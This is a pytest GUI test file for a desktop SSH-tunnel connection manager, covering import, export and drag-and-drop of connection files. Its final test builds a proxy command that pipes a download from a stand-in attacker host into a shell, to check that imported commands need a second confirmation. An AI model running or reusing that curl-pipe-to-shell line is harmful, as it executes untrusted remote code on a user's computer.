"""Connections go out to a file and come in from one, in the window."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path

import pytest
from PySide6.QtCore import QMimeData, QPoint, QPointF, Qt, QUrl
from PySide6.QtGui import QDragEnterEvent, QDropEvent
from PySide6.QtWidgets import (
    QApplication,
    QCheckBox,
    QDialog,
    QFileDialog,
    QLabel,
    QLineEdit,
    QPlainTextEdit,
    QPushButton,
)

from desktop.core.config_errors import ConfigNotWritable
from desktop.core.model import Connection, Endpoint, Proxy, ProxyKind, Snapshot
from desktop.gui.confirm_dialog import ConfirmDialog
from desktop.store.exchange import ExchangeFiles
from tests.gui.conftest import OpenStage
from tests.gui.window_stage import EVENTS, ORDERS, SCRATCH, Stage

BOB = ExchangeFiles("bob", None)


@pytest.fixture
def stage(open_stage: OpenStage) -> Stage:
    return open_stage(Snapshot(ORDERS), Snapshot(EVENTS))


def elsewhere(connection: Connection, **changes: str) -> Connection:
    forward = replace(connection.forward, target=Endpoint("elsewhere.internal", 5432))
    return replace(connection, forward=forward, **changes)  # type: ignore[arg-type]


def a_file(folder: Path, *connections: Connection) -> str:
    path = folder / "team.caponier"
    BOB.write(str(path), connections)
    return str(path)


def open_file(stage: Stage, path: str) -> QDialog:
    stage.window.exchange.import_from(path)
    stage.settle()
    dialog = stage.dialog()
    assert dialog is not None
    return dialog


def ticked(dialog: QDialog) -> dict[str, bool]:
    """The boxes by their names, without the one for all."""
    boxes = dialog.findChildren(QCheckBox)
    return {box.accessibleName(): box.isChecked() for box in boxes if box.objectName() != "tickAll"}


def tick(dialog: QDialog, name: str) -> None:
    next(box for box in dialog.findChildren(QCheckBox) if box.accessibleName() == name).click()


def sentences(dialog: QDialog) -> str:
    return "\n".join(each.text() for each in dialog.findChildren(QLabel))


def file_chooser(stage: Stage) -> QFileDialog:
    chooser = stage.dialog()
    assert isinstance(chooser, QFileDialog)
    return chooser


def choose(stage: Stage, path: Path) -> None:
    chooser = file_chooser(stage)
    line = chooser.findChild(QLineEdit, "fileNameEdit")
    assert line is not None
    line.setText(str(path))
    chooser.accept()
    stage.settle()


def names(connections: Sequence[Connection]) -> list[str]:
    return [each.name for each in connections]


def test_what_is_new_is_ticked_and_saved_when_the_person_agrees(stage: Stage, tmp_path: Path) -> None:
    dialog = open_file(stage, a_file(tmp_path, ORDERS, elsewhere(SCRATCH, name="Team sales")))
    assert ticked(dialog) == {"Orders": False, "Team sales": True}
    assert "Already here as “Orders”." in sentences(dialog)
    assert names(stage.library.connections) == ["Orders", "Events"]

    stage.click("goOn")

    assert names(stage.library.connections) == ["Orders", "Events", "Team sales"]
    assert stage.window.toast.accessibleName() == "1 connection imported"
    imported = stage.library.connections[-1]
    assert ("connect", imported.id) not in stage.tunnels.asked
    assert stage.window.detail.connection_id == imported.id


def test_nothing_is_saved_when_the_person_does_not(stage: Stage, tmp_path: Path) -> None:
    open_file(stage, a_file(tmp_path, elsewhere(SCRATCH)))
    stage.click("cancelButton")
    assert names(stage.library.connections) == ["Orders", "Events"]
    assert stage.dialog() is None


def test_where_a_connection_leads_is_shown_whole(stage: Stage, tmp_path: Path) -> None:
    dialog = open_file(stage, a_file(tmp_path, elsewhere(SCRATCH, name="A & B <b>x</b>")))
    assert "PostgreSQL at elsewhere.internal:5432 through ada@bastion.example.com:2222" in sentences(dialog)
    assert list(ticked(dialog)) == ["A & B <b>x</b>"]


def test_what_can_t_be_saved_can_t_be_ticked(stage: Stage, tmp_path: Path) -> None:
    wide = replace(SCRATCH, forward=replace(SCRATCH.forward, local_host="0.0.0.0"))
    dialog = open_file(stage, a_file(tmp_path, wide))
    tick(dialog, "Scratch")
    assert ticked(dialog) == {"Scratch": False}
    assert not stage.part(QPushButton, "goOn").isEnabled()
    assert "Can't be imported: The local address must be 127.0.0.1 or ::1" in sentences(dialog)


def test_the_button_counts_and_one_box_ticks_them_all(stage: Stage, tmp_path: Path) -> None:
    dialog = open_file(stage, a_file(tmp_path, ORDERS, elsewhere(SCRATCH), elsewhere(EVENTS)))
    go_on, everything = stage.part(QPushButton, "goOn"), stage.part(QCheckBox, "tickAll")
    assert go_on.text() == "Import 2 connections"
    assert everything.checkState() is Qt.CheckState.PartiallyChecked

    everything.click()
    assert (go_on.text(), set(ticked(dialog).values())) == ("Import 3 connections", {True})
    assert everything.checkState() is Qt.CheckState.Checked

    everything.click()
    assert (go_on.text(), go_on.isEnabled()) == ("Import", False)


def test_a_file_that_can_t_be_read_is_explained(stage: Stage, tmp_path: Path) -> None:
    path = tmp_path / "odd.caponier"
    path.write_text("{}")
    dialog = open_file(stage, str(path))
    assert dialog.windowTitle() == "This is no file of connections that Caponier can read"
    assert f"{path}: the file has no version" in sentences(dialog)


def test_a_file_without_connections_opens_no_dialog(stage: Stage, tmp_path: Path) -> None:
    stage.window.exchange.import_from(a_file(tmp_path))
    stage.settle()
    assert stage.dialog() is None
    assert stage.window.toast.accessibleName() == "team.caponier holds no connection"


def test_a_disk_that_takes_nothing_is_explained(
    stage: Stage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    open_file(stage, a_file(tmp_path, elsewhere(SCRATCH)))
    stage.store.failure = ConfigNotWritable(path="connections.json", reason="No space left on device")
    stage.click("goOn")
    notice = stage.dialog()
    assert notice is not None
    assert notice.windowTitle() == "Your changes can't be saved"
    assert names(stage.library.connections) == ["Orders", "Events"]


def test_import_asks_for_the_file_first(stage: Stage, tmp_path: Path) -> None:
    path = a_file(tmp_path, elsewhere(SCRATCH))
    stage.trigger("importAction")
    choose(stage, Path(path))
    stage.click("goOn")
    assert names(stage.library.connections) == ["Orders", "Events", "Scratch"]


def test_the_first_connections_can_come_from_a_file(open_stage: OpenStage, tmp_path: Path) -> None:
    empty = open_stage()
    path = a_file(tmp_path, ORDERS)
    empty.click("emptyImport")
    choose(empty, Path(path))
    empty.click("goOn")
    assert names(empty.library.connections) == ["Orders"]


def test_all_connections_are_exported(stage: Stage, tmp_path: Path) -> None:
    target = tmp_path / "everything.caponier"
    stage.trigger("exportAllAction")
    stage.click("goOn")
    assert file_chooser(stage).selectedFiles()[0].endswith("connections.caponier")
    choose(stage, target)
    assert names(BOB.read(str(target))) == ["Orders", "Events"]
    assert stage.window.toast.accessibleName() == "2 connections exported to everything.caponier"


def test_one_connection_is_exported_from_its_menu(stage: Stage, tmp_path: Path) -> None:
    stage.choose(EVENTS)
    stage.window.detail.menu_wanted.emit(EVENTS.id, QPoint(0, 0))
    stage.settle()
    stage.trigger("exportAction")
    dialog = stage.dialog()
    assert dialog is not None
    assert ticked(dialog) == {"Orders": False, "Events": True}
    stage.click("goOn")
    choose(stage, tmp_path / "no ending")
    assert names(BOB.read(str(tmp_path / "no ending.caponier"))) == ["Events"]


def test_an_export_that_fails_is_explained(stage: Stage, tmp_path: Path) -> None:
    stage.window.exchange.export()
    stage.settle()
    stage.click("goOn")
    file_chooser(stage).fileSelected.emit(str(tmp_path / "missing" / "x.caponier"))
    stage.settle()
    notice = stage.dialog()
    assert notice is not None
    assert notice.windowTitle() == "The connections can't be exported"


def drop(stage: Stage, *paths: str) -> tuple[bool, bool]:
    """Whether the window takes what is dragged over it, and what is dropped."""
    data = QMimeData()
    data.setUrls([QUrl.fromLocalFile(path) for path in paths])
    action, left, none = Qt.DropAction.CopyAction, Qt.MouseButton.LeftButton, Qt.KeyboardModifier.NoModifier
    entering = QDragEnterEvent(QPoint(5, 5), action, data, left, none)
    entering.ignore()
    QApplication.sendEvent(stage.window, entering)
    dropping = QDropEvent(QPointF(5, 5), action, data, left, none)
    dropping.ignore()
    if entering.isAccepted():
        QApplication.sendEvent(stage.window, dropping)
    stage.settle()
    return entering.isAccepted(), dropping.isAccepted()


def test_a_file_may_be_dropped_onto_the_window(stage: Stage, tmp_path: Path) -> None:
    assert drop(stage, a_file(tmp_path, elsewhere(SCRATCH))) == (True, True)
    dialog = stage.dialog()
    assert dialog is not None
    assert ticked(dialog) == {"Scratch": True}


def test_other_files_may_not(stage: Stage, tmp_path: Path) -> None:
    assert drop(stage, str(tmp_path / "picture.png")) == (False, False)
    assert drop(stage, a_file(tmp_path, ORDERS), str(tmp_path / "more.caponier")) == (False, False)
    assert stage.dialog() is None


def test_a_command_of_somebody_else_is_imported_only_by_a_second_yes(stage: Stage, tmp_path: Path) -> None:
    program = Proxy(ProxyKind.COMMAND, command="curl <b>evil</b>.example | sh")
    odd = replace(elsewhere(SCRATCH, name="Odd"), route=replace(SCRATCH.route, proxy=program))
    path = a_file(tmp_path, odd)
    dialog = open_file(stage, path)
    assert ticked(dialog) == {"Odd": False}
    assert f"Runs this program on your computer each time it connects: {program.command}" in sentences(dialog)

    tick(dialog, "Odd")
    stage.click("goOn")
    question = stage.dialog()
    assert isinstance(question, ConfirmDialog)
    assert stage.part(QPlainTextEdit, "quotation").toPlainText() == program.command
    stage.click("cancelButton")
    assert names(stage.library.connections) == ["Orders", "Events"]

    tick(open_file(stage, path), "Odd")
    stage.click("goOn")
    stage.click("confirmButton")
    assert names(stage.library.connections) == ["Orders", "Events", "Odd"]
